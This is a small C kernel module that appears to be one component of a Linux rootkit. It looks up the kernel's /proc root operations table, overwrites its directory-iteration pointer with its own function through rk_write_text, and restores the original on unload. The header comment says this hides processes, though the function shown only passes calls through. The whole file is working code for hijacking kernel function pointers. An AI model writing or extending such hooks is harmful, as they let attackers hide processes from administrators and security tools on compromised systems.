// SPDX-License-Identifier: GPL-2.0-only
/* Lists /proc by a function of its own, where processes are left out. */
#include <linux/fs.h>

#include "rk.h"
#include "rk_text.h"

static struct file_operations *table;
static int (*original)(struct file *file, struct dir_context *context);

static int iterate(struct file *file, struct dir_context *context)
{
	return original(file, context);
}

static int on(void)
{
	int (*mine)(struct file *file, struct dir_context *context) = iterate;

	table = (void *)rk_lookup("proc_root_operations");
	if (!table)
		return -ENOENT;
	original = table->iterate_shared;
	return rk_write_text(&table->iterate_shared, &mine, sizeof(mine));
}

static void off(void)
{
	rk_write_text(&table->iterate_shared, &original, sizeof(original));
	synchronize_rcu();
}

RK_MODULE(fops, on, off);
